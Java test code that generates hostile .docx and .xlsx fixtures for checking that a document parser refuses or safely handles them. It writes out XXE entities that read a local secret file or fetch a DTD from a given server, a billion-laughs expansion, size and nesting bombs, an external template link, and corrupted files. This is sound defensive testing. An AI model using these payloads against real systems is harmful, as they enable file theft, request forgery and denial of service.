package nianbao.hostile;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Random;
import nianbao.read.word.WrittenDocx;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** Hostile Word and Excel files. */
final class HostileOffice {
    private static final Path DOC = Path.of("src/test/resources/word/report.doc");
    private static final String SHEET = "xl/worksheets/sheet1.xml";

    private final HostileFolder folder;

    HostileOffice(HostileFolder folder) {
        this.folder = folder;
    }

    /** Adds them all; whatever names another machine names this server, whatever names a file this one. */
    void addAll(String server, Path secret) throws IOException {
        word(server, secret);
        damaged("doc", Files.readAllBytes(DOC));
        damaged("docx", WrittenDocx.of(report()));
        excel();
    }

    private static String report() {
        return WrittenDocx.p("青山县文局2016年政府信息公开工作年度报告") + WrittenDocx.p("一、概述") + WrittenDocx.p("收到申请3件。");
    }

    private void word(String server, Path secret) throws IOException {
        String file = "<!DOCTYPE d [<!ENTITY x SYSTEM \"" + secret.toUri() + "\">]>";
        folder.add("word/entity-file.docx", Fate.REFUSED, WrittenDocx.of(report() + WrittenDocx.p("&x;"), file));
        String remote = "<!DOCTYPE d SYSTEM \"" + server + "/a.dtd\" [<!ENTITY % y SYSTEM \"" + server + "/y\"> %y;]>";
        folder.add("word/entity-net.docx", Fate.REFUSED, WrittenDocx.of(report(), remote));
        StringBuilder laughs = new StringBuilder("<!DOCTYPE d [<!ENTITY x0 \"lol\">");
        for (int i = 1; i < 20; i++) {
            laughs.append("<!ENTITY x" + i + " \"" + ("&x" + (i - 1) + ";").repeat(10) + "\">");
        }
        folder.add("word/laughs.docx", Fate.REFUSED, WrittenDocx.of(report() + WrittenDocx.p("&x19;"), laughs + "]>"));
        folder.add("word/bomb.docx", Fate.REFUSED, WrittenDocx.of(WrittenDocx.p(" ".repeat(200 << 20))));
        folder.add("word/run.docx", Fate.REFUSED, WrittenDocx.of(WrittenDocx.p("1".repeat(50 << 20))));
        String deep = "<w:tbl><w:tr><w:tc>".repeat(100_000) + "</w:tc></w:tr></w:tbl>".repeat(100_000);
        folder.add("word/deep.docx", Fate.REFUSED, WrittenDocx.of(deep));
        String cells =
                "<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>".repeat(50) + "</w:tr>").repeat(20_000) + "</w:tbl>";
        folder.add("word/cells.docx", Fate.NAMED, WrittenDocx.of(report() + cells));
        byte[] linked = WrittenDocx.with(
                WrittenDocx.of(report()),
                "word/_rels/document.xml.rels",
                ("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" "
                                + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\""
                                + server
                                + "/t.dotm\" TargetMode=\"External\"/></Relationships>")
                        .getBytes(UTF_8));
        folder.add("word/template.docx", Fate.NAMED, linked);
    }

    private void damaged(String extension, byte[] whole) throws IOException {
        for (int part = 1; part < 10; part += 2) {
            folder.add(
                    "word/cut-" + part + "." + extension, Fate.NAMED, Arrays.copyOf(whole, whole.length * part / 10));
        }
        Random random = new Random(13);
        for (int file = 0; file < 10; file++) {
            byte[] flipped = whole.clone();
            for (int bit = 0; bit <= 3 * file; bit++) {
                flipped[random.nextInt(flipped.length)] ^= (byte) (1 << random.nextInt(8));
            }
            folder.add("word/flipped-" + file + "." + extension, Fate.NAMED, flipped);
        }
    }

    private void excel() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (XSSFWorkbook workbook = new XSSFWorkbook()) {
            workbook.createSheet("表");
            workbook.write(out);
        }
        byte[] base = out.toByteArray();
        String row = "<row>" + "<c t=\"n\"><v>1</v></c>".repeat(50) + "</row>";
        folder.add("excel/cells.xlsx", Fate.REFUSED, sheet(base, row.repeat(100_000)));
        folder.add(
                "excel/far.xlsx", Fate.NAMED, sheet(base, "<row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row>"));
        folder.add(
                "excel/wrong-place.xlsx",
                Fate.NAMED,
                sheet(base, "<row r=\"1\"><c r=\"A99999999999\"><v>1</v></c></row>"));
        String merged =
                "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row></sheetData><mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells><sheetData>";
        folder.add("excel/merged.xlsx", Fate.NAMED, sheet(base, merged));
        damaged("xlsx", base);
    }

    private static byte[] sheet(byte[] base, String rows) throws IOException {
        String xml = "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>" + rows
                + "</sheetData></worksheet>";
        return WrittenDocx.with(base, SHEET, xml.getBytes(UTF_8));
    }
}
